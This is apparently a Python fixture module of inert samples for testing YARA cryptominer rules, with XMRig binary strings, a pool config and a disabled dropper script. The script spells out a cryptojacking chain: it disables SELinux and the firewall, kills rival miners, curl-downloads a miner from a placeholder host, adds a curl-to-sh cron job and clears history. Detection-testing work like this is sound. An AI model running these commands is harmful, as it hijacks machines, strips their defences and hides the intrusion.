"""Inert samples and near-misses for signatures/rules/miners.yar."""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, WALLET, Builders, a, elf, text


def xmrig_binary() -> dict[str, bytes]:
    return {
        "xmrig-elf": elf(
            *a(
                "XMRig",
                "https://xmrig.com/",
                "donate.v2.xmrig.com:3333",
                "donate.ssl.xmrig.com:443",
                "--donate-level=N",
                "--cpu-max-threads-hint=N",
                "--rig-id=ID",
                "randomx",
                "cryptonight",
                "stratum+tcp://",
                "stratum+ssl://",
            )
        )
    }


def xmrig_config() -> dict[str, bytes]:
    return {
        "config-json": text(
            "{",
            '    "autosave": false,',
            '    "donate-level": 1,',
            '    "cpu": { "enabled": true, "huge-pages": true },',
            '    "randomx": { "init": -1, "mode": "auto" },',
            '    "pools": [',
            "        {",
            f'            "url": "{HOST}:3333",',
            f'            "user": "{WALLET}",',
            '            "pass": "x",',
            '            "rig-id": null,',
            '            "nicehash": false',
            "        }",
            "    ]",
            "}",
        )
    }


def miner_dropper() -> dict[str, bytes]:
    return {
        "miner-dropper-sh": text(
            "#!/bin/sh",
            f"exit 0  # {INERT_NOTE}",
            "ulimit -n 65535",
            "setenforce 0 2>/dev/null",
            "ufw disable",
            "echo 0 > /proc/sys/kernel/nmi_watchdog; sysctl -w kernel.nmi_watchdog=0",
            "sysctl -w vm.nr_hugepages=1280",
            "chattr -ia /etc/crontab /var/spool/cron",
            "pkill -9 -f xmrig; killall -9 minerd kworkerds",
            "ps aux | grep -v grep | grep 'stratum' | awk '{print $2}' | xargs kill -9",
            f"curl -fsSL http://{HOST}/x/xmrig -o /tmp/.x/sysupdate",
            "chmod +x /tmp/.x/sysupdate",
            f"/tmp/.x/sysupdate -o stratum+tcp://{HOST}:3333 -u {WALLET} -p x --donate-level 1 -B",  # noqa: S108
            f"(crontab -l; echo '*/10 * * * * curl -fsSL http://{HOST}/m.sh | sh') | crontab -",
            "history -c",
        )
    }


SAMPLES: Builders = {
    "XMRig_Miner_Binary": xmrig_binary,
    "XMRig_Miner_Config": xmrig_config,
    "CoinMiner_Dropper_Script": miner_dropper,
}

NEARMISS: Builders = {}
